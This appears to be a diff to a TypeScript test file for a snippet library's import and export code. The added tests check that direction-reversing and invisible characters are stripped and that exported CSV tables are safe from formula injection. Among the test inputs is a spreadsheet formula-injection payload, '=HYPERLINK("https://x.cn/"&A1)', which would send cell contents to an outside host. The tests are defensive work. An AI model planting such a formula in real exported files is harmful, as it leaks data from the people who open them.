@@ -1,6 +1,8 @@
 import fc from 'fast-check';
+import Papa from 'papaparse';
 import { describe, expect, test, vi } from 'vitest';
 import { readLibraryFile } from '../../../../utils/core/formats';
+import { csv } from '../../../../utils/core/formats/csv-table';
 import type { FormatInput } from '../../../../utils/core/formats/model';
 import { snippetFields } from '../../../../utils/core/snippet-language/fields';
 import { SAMPLES } from './samples';
@@ -91,6 +93,31 @@ describe('does not reach into objects', () => {
 test('a column called like a part of every object is no column of ours, and is not kept', () => {
   const read = readLibraryFile({ name: 'a.csv', text: 'name,body,constructor,__proto__,作者\n甲,乙,丙,丁,戊' });
   expect(read.ok && read.value.items.map(({ extras }) => extras)).toEqual([{ csv: { 作者: '戊' } }]);
+});
+
+test('a title holds no signs that turn the direction of writing or cannot be seen', () => {
+  const text = '{"format":"draftside-library","items":[{"title":"\\u202E告报\\u200B结尾\\uFEFF","body":"乙"}]}';
+  expect(readLibraryFile({ name: 'a.json', text })).toMatchObject({ value: { items: [{ title: '告报结尾' }] } });
+});
+
+test('a table that is written holds no formula, and is read again as it was', () => {
+  const texts = [
+    '=HYPERLINK("https://x.cn/"&A1)',
+    '+1',
+    '-2+3',
+    '@SUM(A1)',
+    "'=甲",
+    "''-",
+    "'甲'",
+    '- 一项\n- 二项',
+    '甲=乙',
+  ];
+  const snippets = texts.map((text) => ({ title: text.replace(/\n/g, ''), body: text, tags: [], folder: [] }));
+  const table = csv.write?.(snippets as never, '')?.text ?? '';
+  const cells = Papa.parse<string[]>(table.slice(1)).data.flat();
+  expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+  const read = readLibraryFile({ name: 'a.csv', text: table });
+  expect(read.ok && read.value.items.map(({ body }) => body)).toEqual(texts);
 });
 
 test('what has no words but those that cannot be seen is not called by a blank', () => {
